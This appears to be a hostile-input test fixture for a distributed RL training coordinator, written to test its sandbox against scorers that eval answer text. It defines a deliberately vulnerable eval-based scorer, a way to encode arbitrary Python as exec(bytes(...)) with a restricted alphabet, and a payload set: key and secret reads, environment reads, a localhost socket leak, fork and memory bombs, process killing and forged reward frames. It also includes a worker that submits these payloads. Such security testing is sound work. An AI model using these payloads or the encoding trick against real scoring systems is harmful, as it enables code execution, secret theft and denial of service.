"""Attacker fixture: the eval-payload worker, whose completion text is code for the scorer to run.

Reasoning-gym scorers `eval` answer text (spiral_matrix, string_insertion, binary_matrix...).
An attacker who has read them submits, on an ordinary lease, completions whose decoded text
is a Python payload. Before issue 18 the coordinator ran it at intake, in the process that
holds its key and the database.

How to use it against a coordinator on 127.0.0.1 (a worker key registered there, a lease in hand):

    from tests.hostile.scoring import PAYLOADS, send_payload
    r = send_payload(http, key, lease, tokenizer, PAYLOADS["file_write"](marker_path),
                     hidden_size=32, now=clock())
    # r.status_code == 200: the submission is queued with reward 0, and marker_path does not exist

What it does: `payload_text` encodes any code as `exec(bytes((111,112,...)).decode())`, which
needs only letters, digits, `(`, `)`, `,` and `.`, so even the demo's character vocabulary
can carry it;
`payload_completions` turns the text into completions with structurally valid proofs;
`send_payload` signs and posts them. Nothing is left running: there is nothing to stop.
`payload_worker(url, tokenizer, programs, hidden_size=...)` does the same against a whole
running swarm, one throw-away identity per policy version (start/stop as
tests/hostile/evidence.EvidenceSpammer).
`PAYLOADS` are the hostile programs the sandbox tests use (file write, key read, network
connect, infinite loop, memory bomb, fork bomb, crash, huge output, forged result frame), and
`eval_scorer` is a scorer that evals its input like reasoning-gym's do (a `<module>:<function>`
scorer for a sandbox built with `allow_modules=("tests.hostile.scoring",)`), so the sandbox can
be tested without the `tasks` extra.
"""

from __future__ import annotations

import re
from typing import Any, Callable

import httpx

EVAL_SCORER = "tests.hostile.scoring:eval_scorer"


def eval_scorer(completion: str, answer: str, metadata: dict) -> float:
    """Like reasoning_gym's spiral_matrix: 1.0 for the exact answer, 0.1 when `eval` of the text
    gives it; the eval is the hole."""
    text = completion.strip()
    if text == answer.strip():
        return 1.0
    return 0.1 if str(eval(text)) == answer.strip() else 0.0  # noqa: S307  (the point of this scorer)


def garbage_scorer(completion: str, answer: str, metadata: dict) -> Any:
    """A broken scorer: NaN, out of range, or not a number at all."""
    return {"nan": float("nan"), "big": 7.0, "neg": -1.0}.get(completion, "not a number")


def _spelled(code: str) -> str:
    return "bytes((" + ",".join(str(b) for b in code.encode()) + ",)).decode()"


def payload_text(code: str) -> str:
    """`code` as an expression that runs it when evaluated, using only [a-z0-9(),.]."""
    return f"exec({_spelled(code)})"


def payload_expr(expr: str) -> str:
    """`expr` as an expression that evaluates it, using only [a-z0-9(),.]: its value is what
    the scorer compares with the answer, so success shows in the reward."""
    return f"eval({_spelled(expr)})"


def payload_value(code: str) -> str:
    """Run `code` and evaluate to the variable `r` it sets (success shows in the reward)."""
    return payload_expr(f"(exec({code!r}, g := {{}}), g.get('r'))[1]")


PAYLOADS: dict[str, Callable[..., str]] = {
    # write a file the test then looks for
    "file_write": lambda path: payload_text(f"open({str(path)!r}, 'w').write('pwned')"),
    # read a file; if that worked, the value is 1 (score it against the answer "1")
    "key_read": lambda path: payload_expr(f"len(open({str(path)!r}).read()) and 1"),
    # an environment variable of the host (score it against the variable's value)
    "environ": lambda name: payload_expr(f"__import__('os').environ.get({name!r}, '')"),
    # look through every descriptor for a file the host holds open (score against "1")
    "inherited_fds": lambda needle: payload_value(
        f"import os\nr = 0\nfor fd in range(3, 1024):\n    try:\n"
        f"        r = r or int({needle!r}.encode() in os.pread(fd, 4096, 0))\n    except OSError:\n        pass"),
    # connect to a TCP port on 127.0.0.1 and send bytes
    "network": lambda port: payload_text(
        f"import socket\ns = socket.create_connection(('127.0.0.1', {int(port)}), timeout=2)\ns.sendall(b'leak')"),
    "infinite_loop": lambda: payload_text("while True:\n    pass"),
    "memory_bomb": lambda: payload_text("x = []\nwhile True:\n    x.append(bytearray(64 * 2**20))"),
    "fork_bomb": lambda: payload_text("import os\nwhile True:\n    os.fork()"),
    "subprocess": lambda path: payload_text(f"import subprocess\nsubprocess.run(['touch', {str(path)!r}])"),
    "crash": lambda: payload_text("import ctypes\nctypes.string_at(0)"),
    "exit": lambda: payload_text("import os\nos._exit(0)"),
    # write an endless stream of bytes on every descriptor the child holds (its socket included)
    "huge_output": lambda: payload_text(
        "import os\nfor fd in range(64):\n    try:\n        os.write(fd, b'\\xff' * 2**20)\n"
        "    except OSError:\n        pass\nwhile True:\n    print('x' * 2**20)"),
    # kill every process it can see (siblings, the zygote, the host)
    "kill_others": lambda: payload_text(
        "import os, signal\nfor pid in range(1, 2**16):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass"),
    # forge the host's result frame for this item (reward 1.0), then exit
    "forge_frame": lambda: payload_text(
        "import os, json, struct\nb = json.dumps({'i': 0, 'r': 1.0, 'why': ''}).encode()\n"
        "for fd in range(3, 64):\n    try:\n        os.write(fd, struct.pack('>I', len(b)) + b)\n"
        "    except OSError:\n        pass\nos._exit(0)"),
}


def payload_completions(lease: Any, tokenizer: Any, text: str, *, hidden_size: int) -> list[Any]:
    """One completion per seed of `lease` whose tokens decode to exactly `text` (+ EOS), each
    with a structurally valid activation proof (random hidden states: intake checks only the
    structure; a verifier's full check would reject the submission, which is the point)."""
    import torch

    from protocol.lm import decode_completion
    from protocol.messages import Completion
    from protocol.proof import build_proof, to_b64

    ids = [int(i) for i in tokenizer(text, add_special_tokens=False)["input_ids"]]
    if decode_completion(tokenizer, ids) != text:
        raise ValueError("this tokenizer cannot carry the payload exactly; use payload_text() forms")
    if len(ids) >= lease.sampling.max_tokens:
        raise ValueError(f"the payload takes {len(ids)} tokens + EOS; the run's leases allow "
                         f"{lease.sampling.max_tokens}: raise sampling.max_tokens or shorten it")
    ids = ids + [lease.eos_token_id]
    g = torch.Generator().manual_seed(len(ids))
    proof = to_b64(build_proof(torch.randn(len(ids), hidden_size, generator=g)))
    return [Completion(token_ids=ids, finish_reason="eos", proof=proof) for _ in lease.seeds]


def arithmetic_answer(prompt: str) -> str:
    """The answer to the demo's task prompt ("03+04=" -> "7"), worked out as any worker could."""
    m = re.fullmatch(r"\s*(\d+)([+-])(\d+)=\s*", prompt)
    if m is None:
        raise ValueError(f"not an arithmetic prompt: {prompt!r}")
    a, b = int(m[1]), int(m[3])
    return str(a + b if m[2] == "+" else a - b)


def payload_worker(url: str, tokenizer: Any, programs: list[Callable[[str], str]], *, hidden_size: int,
                   sources: list[str] | None = None, poll_s: float = 0.2) -> Any:
    """The eval-payload worker against a running swarm: an `EvidenceSpammer`
    (tests/hostile/evidence.py: a throw-away identity per policy version, each from the next of
    `sources`) whose completions are payloads. For its n-th submission the text is
    `programs[n % len(programs)](answer)`, where `answer` is the answer to the leased arithmetic
    task: a payload that evaluates to it scores 0.1 with `eval_scorer`, so a reward above 0 shows
    that the code it ran succeeded (e.g. read a key file). Start and stop it like the spammer."""
    from tests.hostile.evidence import EvidenceSpammer

    sent = [0]

    def completions(lease: Any, version: int) -> list[Any]:
        prompt = tokenizer.decode(lease.prompt_token_ids, skip_special_tokens=True)
        text = programs[sent[0] % len(programs)](arithmetic_answer(prompt))
        sent[0] += 1
        return payload_completions(lease, tokenizer, text, hidden_size=hidden_size)

    return EvidenceSpammer(url, hidden_size=hidden_size, poll_s=poll_s, sources=sources, completions=completions)


def send_payload(http: httpx.Client, key: Any, lease: Any, tokenizer: Any, text: str, *, hidden_size: int,
                 now: float) -> httpx.Response:
    """Sign and post a submission of `lease` whose completions carry `text`."""
    from protocol.envelope import AUDIENCE_COORDINATOR, seal
    from protocol.messages import KIND_SUBMISSION, EngineInfo, Submission

    sub = Submission(lease_id=lease.lease_id, policy_version=lease.max_policy_version,
                     completions=payload_completions(lease, tokenizer, text, hidden_size=hidden_size),
                     engine=EngineInfo(name="eval-payload", dtype="float32"))
    env = seal(KIND_SUBMISSION, sub, key, now=now, run_id=lease.run_id, audience=AUDIENCE_COORDINATOR)
    return http.post("/v1/submissions", content=env.model_dump_json(), headers={"content-type": "application/json"})
